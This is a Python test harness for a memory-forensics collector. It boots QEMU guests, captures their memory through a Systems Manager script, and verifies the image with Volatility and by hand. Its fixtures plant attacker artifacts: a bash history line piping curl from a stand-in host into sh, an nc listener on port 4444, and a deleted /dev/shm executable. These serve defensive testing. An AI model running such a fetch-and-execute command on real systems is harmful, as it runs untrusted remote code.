"""The proof that memory arrives: boots a guest with a real kernel, runs the script of the real Command document in it,
and reads the image that comes out. What no test with a made-up `/proc/kcore` can show.

    proof.py --collector FILE [--collector-aarch64 FILE] --cache FOLDER [--symbols FILE --volatility FILE] [--install]
             [--only main] [--keep FOLDER]

Ends with `N passed, N failed, N skipped`; a case is skipped, with the reason, where QEMU or the kernel for its machine
cannot be had.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import bucket as buckets
import guest

ROOT = Path(__file__).resolve().parent.parent.parent
MEMORY_MIB = 256
LIMIT_SECONDS = 240


def script(values: dict[str, str]) -> str:
    """The script of the document, with the values in place as Systems Manager puts them there."""
    document = json.loads((ROOT / "infra/ssm/acquire-memory.json").read_text())
    text = "\n".join(document["mainSteps"][0]["inputs"]["runCommand"]) + "\n"
    for name, value in values.items():
        text = text.replace("{{ " + name + " }}", value)
    assert "{{" not in text, "a parameter was left"
    return text


class Run:
    """One guest, and what came of it."""

    def __init__(self, setting: Setting, name: str, machine: guest.Machine = guest.X86_64, **options: object) -> None:
        self.name = name
        system = setting.systems[machine]
        self.folder = setting.folder / name
        self.folder.mkdir()
        received = self.folder / "received"
        received.mkdir()
        server = "other" if options.get("unknown_authority") else "bucket"
        self.bucket = buckets.Bucket(received, setting.folder / f"{server}.pem", setting.folder / f"{server}.key")
        self.bucket.faults = dict(options.get("faults", {}))
        self.bucket.served["/collector"] = system.collector
        values = {
            "CollectorUrl": f"{self.bucket.address}/collector?X-Amz-Signature=0",
            "CollectorSha256": str(options.get("sha256", hashlib.sha256(system.collector).hexdigest())),
            "ManifestUrl": self.bucket.manifest(MEMORY_MIB),
        }
        settings = {"nonce": name, "noexec": "yes" if options.get("noexec") else ""}
        if not options.get("no_authority_for_curl"):
            settings["CURL_CA_BUNDLE"] = "/etc/authority.pem"
        if not options.get("no_authority_for_collector"):
            settings["STASIS_ROOTS"] = "/etc/authority.pem"
        ram_disk, volume = self.folder / "guest.cpio.gz", self.folder / "volume.raw"
        authority = setting.folder / "bucket-ca.pem"
        guest.initial_ram_disk(machine, system.unpacked, ram_disk, script(values), settings, authority)
        guest.disk(volume)
        begun = time.monotonic()
        try:
            arguments = f"lockdown={options['lockdown']}" if "lockdown" in options else ""
            self.console = guest.boot(machine, system.unpacked, ram_disk, volume, MEMORY_MIB, arguments, LIMIT_SECONDS)
        finally:
            self.bucket.close()
        self.seconds = time.monotonic() - begun
        self.said = [json.loads(line) for line in self.console.splitlines() if line.startswith("{")]
        self.marker = b"MARK-" + hashlib.sha256(f"proof-{name}".encode()).hexdigest().encode() + b"-END"

    def guest_says(self, key: str) -> str:
        lines = [line for line in self.console.splitlines() if line.startswith(f"GUEST {key} ")]
        assert lines, f"the guest did not say {key}:\n{self.console[-3000:]}"
        return lines[-1].removeprefix(f"GUEST {key} ").strip()

    def summary(self) -> dict:
        return json.loads((self.bucket.folder / "summary.json").read_text())

    def untouched(self) -> None:
        """Holds for every run, whatever became of it."""
        equal(self.guest_says("sectors-written"), "0", "no sector was written to the disk")
        equal(self.guest_says("left-over").split(), ["/dev/shm:", "/run:"], "what is left in a tmpfs")


def equal(found: object, wanted: object, what: str) -> None:
    assert found == wanted, f"{what}: found {found!r}, wanted {wanted!r}"


def records(image: bytes) -> list[tuple[int, int]]:
    """The ranges of a LiME image, walked from header to header."""
    found, at = [], 0
    while at < len(image):
        magic, version, start, last, reserved = struct.unpack_from("<IIQQQ", image, at)
        equal((magic, version, reserved), (0x4C694D45, 1, 0), f"the LiME header at {at}")
        assert not found or start >= found[-1][1], "records overlap"
        found.append((start, last + 1))
        at += 32 + last + 1 - start
    equal(at, len(image), "the end of the image")
    return found


@dataclass(frozen=True)
class System:
    """What the guests of one machine are made of."""

    unpacked: Path
    collector: bytes


class Setting:
    def __init__(
        self, folder: Path, systems: dict[guest.Machine, System], symbols: str | None, volatility: str | None
    ) -> None:
        self.folder = folder
        self.systems = systems
        self.symbols = symbols
        self.volatility = volatility
        # Where there is no system, openssl may be what is missing.
        for name in ("bucket", "other") if systems else ():
            buckets.authority(folder, name)


def whole_memory(run: Run) -> None:
    """What holds of every complete image."""
    run.untouched()
    equal(run.guest_says("code"), "0", "the script's exit code")
    summary, image = run.summary(), run.bucket.image()
    equal((summary["taken"], summary["stream"]["complete"], summary["reason"]), ("memory", True, None), "what was taken")
    equal(len(image), summary["stream"]["bytes"], "bytes received")
    equal(hashlib.sha256(image).hexdigest(), summary["stream"]["sha256"], "SHA-256 of what was received")
    covered = sum(end - start for start, end in records(image))
    missing = sum(gap["end"] - gap["start"] for gap in summary["gaps"] if gap["why"] == "notMapped")
    equal(covered + missing, summary["memoryBytes"], "memory in the image and not mapped")
    assert summary["memoryBytes"] > (MEMORY_MIB << 20) * 0.95, summary["memoryBytes"]
    assert run.marker in image, "the marker that only a process' memory holds is not in the image"
    assert summary["peakKib"] < 64 << 10, f"the collector took {summary['peakKib']} KiB"
    for line in (header for method, _, header in run.bucket.requests if method == "PUT"):
        assert not any(name.startswith("x-amz-") for name in line), line


def state_of(run: Run) -> list[dict]:
    return [json.loads(line) for line in (run.bucket.folder / "state.jsonl").read_text().splitlines()]


def alive(run: Run) -> dict[int, str]:
    """The processes of the state, less the kernel's threads that come and go."""
    processes = {p["pid"]: p["name"] for p in state_of(run) if p["type"] == "process"}
    return {pid: name for pid, name in processes.items() if not name.startswith(("kworker", "ext4lazyinit"))}


def whole_acquisition(run: Run) -> str:
    """The whole memory, the state and the files, and what it took."""
    whole_memory(run)
    state = state_of(run)
    deleted = [p for p in state if p["type"] == "process" and p["deleted"]]
    equal([p["commandLine"] for p in deleted], [["/dev/shm/sleep", "100001"]], "processes whose executable is deleted")
    listener = [s for s in state if s["type"] == "socket" and s["state"] == "LISTEN" and s["local"].endswith(":4444")]
    equal(len(listener), 1, "the listening socket")
    holders = {p["pid"]: p["name"] for p in state if p["type"] == "process"}
    equal([holders[pid] for pid in listener[0]["pids"]], ["nc"], "who listens")
    files = [json.loads(line) for line in (run.bucket.folder / "files.jsonl").read_text().splitlines()]
    contents = {file["path"]: file.get("content") for file in files}
    equal(contents["/root/.bash_history"], "curl http://203.0.113.9/x | sh\n", "the history")
    summary = run.summary()
    told = f"{summary['stream']['bytes'] >> 20} MiB in {summary['milliseconds'] / 1000:.1f} s, {summary['peakKib'] >> 10} MiB of memory"
    return told + f", {len(summary['gaps'])} gaps"


def main_case(setting: Setting) -> str:
    run = Run(setting, "main")
    told = whole_acquisition(run)
    if setting.symbols and setting.volatility:
        told += f"; {read_by_volatility(setting, run)}"
    return told


def aarch64(setting: Setting) -> str:
    run = Run(setting, "aarch64", guest.AARCH64)
    told = whole_acquisition(run)
    equal(run.summary()["kernel"]["machine"], "aarch64", "the machine")
    if setting.symbols:
        told += f"; {read_by_hand(setting, run)}"
    return told


def make_symbols(setting: Setting, folder: Path) -> tuple[int, str]:
    """Symbols made of the guest's own BTF and kallsyms, and nothing else."""
    made = subprocess.run([setting.symbols, folder], capture_output=True, text=True, check=False)
    return made.returncode, made.stdout.strip()


def types_of(setting: Setting, run: Run) -> tuple[dict, str]:
    """The kernel's types, and what stasis-symbols said. Debian's kernel for aarch64 lists its functions and nothing else
    (it is built without CONFIG_KALLSYMS_ALL), so it has no symbols to make; that must be what is said. The types do not
    depend on it: with a beginning of the kernel in the list they are written.
    """
    code, said = make_symbols(setting, run.bucket.folder)
    folder = run.bucket.folder
    if code != 0:
        equal(said, "no symbols were made: kallsyms.txt: there is no _text", "stasis-symbols")
        lines = (folder / "kallsyms.txt").read_text().splitlines()
        unlisted = {"_text", "init_task", "linux_banner"} & {line.split()[2] for line in lines}
        equal(unlisted, set(), "symbols that are there after all")
        folder = run.folder / "types"
        folder.mkdir()
        for name in ("vmlinux.btf", "version.txt"):
            shutil.copy(run.bucket.folder / name, folder)
        (folder / "kallsyms.txt").write_text("\n".join([*lines, f"{lines[0].split()[0]} T _text"]))
        equal(make_symbols(setting, folder)[0], 0, "stasis-symbols with a _text")
    return json.loads((folder / "symbols.json").read_text())["user_types"], said.removeprefix(f"{folder}/")


def read_by_hand(setting: Setting, run: Run) -> str:
    """Walks the list of processes in the image. Volatility 3 knows no page tables of aarch64; the kernel's own memory
    needs none: what its addresses stand for is in the note that it keeps for crash dumps, in the image too.
    """
    types, said = types_of(setting, run)
    field = {name: found["offset"] for name, found in types["task_struct"]["fields"].items()}
    image = run.bucket.image()
    places, at = [], 0
    for start, end in records(image):
        places.append((start, end, at + 32))
        at += 32 + end - start

    def physical(start: int, length: int) -> bytes:
        within = [place + start - first for first, end, place in places if first <= start and start + length <= end]
        return image[within[0] : within[0] + length] if within else b""

    note = physical(*(int(word, 16) for word in (run.bucket.folder / "vmcoreinfo.txt").read_text().split()))
    numbers = {name: int(number, 0) for name, number in re.findall(r"NUMBER\((\w+)\)=(\w+)", note.decode("latin-1"))}
    equal({"VA_BITS", "kimage_voffset", "PHYS_OFFSET"} - numbers.keys(), set(), "what the note does not say")
    half = 1 << (numbers["VA_BITS"] - 1)

    def memory(start: int, length: int) -> bytes:
        """Of an address of the kernel itself, or of one of the memory that it sees as a whole."""
        of = start - numbers["kimage_voffset"] if start & half else start % half + numbers["PHYS_OFFSET"]
        return physical(of % (1 << 64), length)

    def number(start: int, length: int = 8) -> int:
        return int.from_bytes(memory(start, length), "little")

    # The first task has a name of its own, and the list comes back to it.
    name = re.compile(re.escape(b"swapper/0".ljust(16, b"\0")))
    within = [(start - place, name.finditer(image, place, place + end - start)) for start, end, place in places]
    names = [shift + hit.start() for shift, hits in within for hit in hits]
    links = [(at - field["comm"] + numbers["kimage_voffset"] + field["tasks"]) % (1 << 64) for at in names]
    heads = [link for link in links if number(number(link) + 8) == link]
    equal(len(heads), 1, f"heads of the list of processes, of {len(names)} places with the name of the first")
    listed: dict[int, str] = {}
    link = heads[0]
    while not listed or link != heads[0]:
        task = link - field["tasks"]
        pid = number(task + field["pid"], 4)
        assert pid not in listed, f"the list of processes comes back to {pid} and not to its head"
        listed[pid] = memory(task + field["comm"], 16).split(b"\0")[0].decode()
        link = number(link)
    # A task's own name has 15 letters; those of the kernel's threads may be longer, and stand elsewhere.
    wanted = {(pid, name[:15]) for pid, name in alive(run).items()}
    equal(wanted - listed.items(), set(), "processes of the state that are not in the image")
    return f"{len(listed)} processes in the image by the kernel's own types; stasis-symbols: {said}"


def read_by_volatility(setting: Setting, run: Run) -> str:
    """Reads the image as an analyst reads it."""
    code, said = make_symbols(setting, run.bucket.folder)
    equal(code, 0, f"stasis-symbols: {said}")
    (run.folder / "symbols/linux").mkdir(parents=True)
    # Volatility does not make it, and the home folder is not ours to write to.
    (run.folder / "cache").mkdir()
    shutil.copy(run.bucket.folder / "symbols.json", run.folder / "symbols/linux/guest.json")
    image = run.folder / "image.lime"
    image.write_bytes(run.bucket.image())

    def plugin(name: str) -> list[dict]:
        cache = ("--cache-path", str(run.folder / "cache"))
        command = [setting.volatility, "-q", "-r", "json", *cache, "-s", run.folder / "symbols", "-f", image, f"linux.{name}"]
        read = subprocess.run(command, capture_output=True, text=True, check=False, timeout=LIMIT_SECONDS)
        assert read.returncode == 0, f"linux.{name}: {read.stderr[-600:]}"
        return json.loads(read.stdout)

    listed = {process["PID"]: process["COMM"] for process in plugin("pslist")}
    missing = {pid: name for pid, name in alive(run).items() if pid not in listed}
    equal(missing, {}, "processes of the state that are not in the image")
    deleted = next(p["pid"] for p in state_of(run) if p["type"] == "process" and p["deleted"])
    arguments = {process["PID"]: process["ARGS"] for process in plugin("psaux")}
    equal(arguments[deleted], "/dev/shm/sleep 100001", "the command line of the deleted executable")
    assert any("(deleted)" in m["File Path"] for m in plugin("proc.Maps") if m["PID"] == deleted), "its map says deleted"
    values = [variable["VALUE"] for variable in plugin("envars") if variable["KEY"] == "MARK"]
    equal(values, [run.marker.decode()], "the marker in the environment of its process")
    ports = {str(socket["Source Port"]) for socket in plugin("sockstat") if socket["State"] == "LISTEN"}
    equal(ports, {"4444"}, "listening sockets")
    modules = {module["Module Name"] if "Module Name" in module else module["Name"] for module in plugin("lsmod")}
    assert "virtio_net" in modules, modules
    return f"Volatility lists {len(listed)} processes, the marker, the deleted executable and the listener"


def noexec(setting: Setting) -> str:
    run = Run(setting, "noexec", noexec=True)
    told = whole_acquisition(run)
    programs = [p["executable"] or "" for p in state_of(run) if p["type"] == "process"]
    assert any(program.startswith("/mnt/.stasis.") for program in programs), f"no tmpfs of its own: {programs}"
    return told


def integrity(setting: Setting) -> str:
    run = Run(setting, "integrity", lockdown="integrity")
    whole_memory(run)
    equal(run.summary()["kernel"]["lockdown"], "integrity", "the lockdown in force")
    return "the whole memory"


def confidentiality(setting: Setting) -> str:
    run = Run(setting, "confidentiality", lockdown="confidentiality")
    run.untouched()
    summary, archive = run.summary(), run.bucket.image()
    equal((summary["taken"], summary["stream"]["complete"]), ("processMemory", True), "what was taken")
    assert "Operation not permitted" in summary["reason"], summary["reason"]
    equal(hashlib.sha256(archive).hexdigest(), summary["stream"]["sha256"], "SHA-256 of what was received")
    assert run.marker in archive, "the marker is not in the memory of the processes"
    file = run.folder / "processes.tar"
    file.write_bytes(archive)
    listed = subprocess.run(["tar", "--list", "--file", file], check=True, capture_output=True, text=True).stdout.split()
    deleted = next(p["pid"] for p in state_of(run) if p["type"] == "process" and p["deleted"])
    subprocess.run(["tar", "--extract", "--file", file, "--directory", run.folder, f"{deleted}/exe"], check=True)
    busybox = Path(shutil.which("busybox") or "/bin/busybox").read_bytes()
    assert (run.folder / f"{deleted}/exe").read_bytes() == busybox, "the deleted executable is not what ran"
    return f"{summary['processes']} processes, {len(listed)} members, {len(archive) >> 10} KiB"


def failing_once(setting: Setting) -> str:
    run = Run(setting, "failing-once", faults={3: [500], 5: [0], 7: [503, 503]})
    whole_memory(run)
    equal(run.summary()["stream"]["retries"], 4, "parts sent again")
    return "4 parts sent again"


def failing_for_good(setting: Setting) -> str:
    run = Run(setting, "failing-for-good", faults={7: [403]})
    run.untouched()
    equal(run.guest_says("code"), "3", "the script's exit code")
    summary, image = run.summary(), run.bucket.image()
    equal((summary["taken"], summary["stream"]["complete"]), ("memory", False), "what was taken")
    assert "part 7" in summary["reason"], summary["reason"]
    equal(len(image), 6 * summary["stream"]["partBytes"], "bytes up to the part that was refused")
    equal(hashlib.sha256(image).hexdigest(), summary["stream"]["parts"][5]["sha256"], "SHA-256 of what arrived")
    return f"{len(image) >> 20} MiB kept: {summary['reason'][:60]}"


def nothing_sent(run: Run, said: str) -> str:
    run.untouched()
    assert any(said in line.get("error", "") for line in run.said), run.said
    equal([path for method, path, _ in run.bucket.requests if method == "PUT"], [], "what was sent")
    return next(line["error"] for line in run.said if "error" in line)


def wrong_hash(setting: Setting) -> str:
    run = Run(setting, "wrong-hash", sha256="0" * 64)
    equal(run.guest_says("code"), "20", "the script's exit code")
    return nothing_sent(run, "another SHA-256")


def unknown_authority(setting: Setting) -> str:
    run = Run(setting, "unknown-authority", unknown_authority=True)
    equal(run.guest_says("code"), "20", "the script's exit code")
    return nothing_sent(run, "could not be fetched")


def authority_unknown_to_the_collector(setting: Setting) -> str:
    run = Run(setting, "collector-authority", no_authority_for_collector=True)
    equal(run.guest_says("code"), "2", "the script's exit code")
    return nothing_sent(run, "UnknownIssuer")


@dataclass(frozen=True)
class Case:
    title: str
    prove: Callable[[Setting], str]
    machine: guest.Machine = guest.X86_64


CASES = {
    "main": Case("the whole memory of a running kernel", main_case),
    "aarch64": Case("the whole memory of a running aarch64 kernel", aarch64, guest.AARCH64),
    "noexec": Case("a host on which no tmpfs lets programs run", noexec),
    "integrity": Case("lockdown=integrity", integrity),
    "confidentiality": Case("lockdown=confidentiality: process memory instead", confidentiality),
    "failing-once": Case("parts that fail once", failing_once),
    "failing-for-good": Case("a part that is refused for good", failing_for_good),
    "wrong-hash": Case("a collector with another SHA-256", wrong_hash),
    "unknown-authority": Case("a server of an unknown authority", unknown_authority),
    "collector-authority": Case("an authority that only the host trusts", authority_unknown_to_the_collector),
}


PACKAGES = ("busybox-static", "cpio", "e2fsprogs", "openssl", "curl")
TOOLS = ("busybox", "cpio", "mkfs.ext4", "openssl", "curl")


def missing_tools(machine: guest.Machine) -> list[str]:
    return [tool for tool in (machine.emulator[0], *TOOLS) if not shutil.which(tool)]


def install(machine: guest.Machine) -> None:
    """Installs what is missing for a machine's guests, where this is root on Debian."""
    if missing_tools(machine) and shutil.which("apt-get") and os.geteuid() == 0:
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "check": False}
        subprocess.run(["apt-get", "update", "-qq"], **quiet)
        packages = (*machine.packages, *PACKAGES)
        subprocess.run(["apt-get", "install", "-y", "-qq", "--no-install-recommends", *packages], **quiet)


def system(machine: guest.Machine, cache: Path, collector: Path | None) -> System:
    if collector is None:
        raise guest.NotHere(f"no collector for {machine.name} was given")
    if missing := missing_tools(machine):
        raise guest.NotHere(f"{', '.join(missing)} cannot be had here")
    return System(guest.unpack(machine, cache), collector.read_bytes())


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--collector", type=Path, required=True, help="the static collector for x86_64")
    parser.add_argument("--collector-aarch64", type=Path, help="the one for aarch64")
    parser.add_argument("--cache", type=Path, required=True, help="where the kernels are kept")
    parser.add_argument("--only", nargs="*", choices=CASES, default=list(CASES))
    parser.add_argument("--symbols", help="stasis-symbols; with --volatility the image is read as an analyst reads it")
    parser.add_argument("--volatility", help="vol of Volatility 3")
    parser.add_argument("--install", action="store_true", help="install what the cases need, where this is root on Debian")
    parser.add_argument("--keep", type=Path, help="an empty folder in which what was received stays")
    arguments = parser.parse_args()
    collectors = {guest.X86_64: arguments.collector, guest.AARCH64: arguments.collector_aarch64}
    systems: dict[guest.Machine, System] = {}
    lacking: dict[guest.Machine, str] = {}
    for machine in dict.fromkeys(CASES[name].machine for name in arguments.only):
        if arguments.install:
            install(machine)
        try:
            systems[machine] = system(machine, arguments.cache, collectors[machine])
        except (guest.NotHere, subprocess.CalledProcessError) as reason:
            lacking[machine] = str(reason)
    passed = failed = skipped = 0
    with tempfile.TemporaryDirectory(prefix="vm-proof-", dir=arguments.cache) as folder:
        setting = Setting(arguments.keep or Path(folder), systems, arguments.symbols, arguments.volatility)
        for case in (CASES[name] for name in arguments.only):
            if case.machine in lacking:
                skipped += 1
                print(f"skip  {case.title}: {lacking[case.machine]}", flush=True)
                continue
            begun = time.monotonic()
            try:
                told = case.prove(setting)
                passed += 1
                print(f"ok    {case.title}: {told} ({time.monotonic() - begun:.0f} s)", flush=True)
            except AssertionError as error:
                failed += 1
                print(f"FAIL  {case.title}: {error}", flush=True)
    print(f"\n{passed} passed, {failed} failed, {skipped} skipped")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
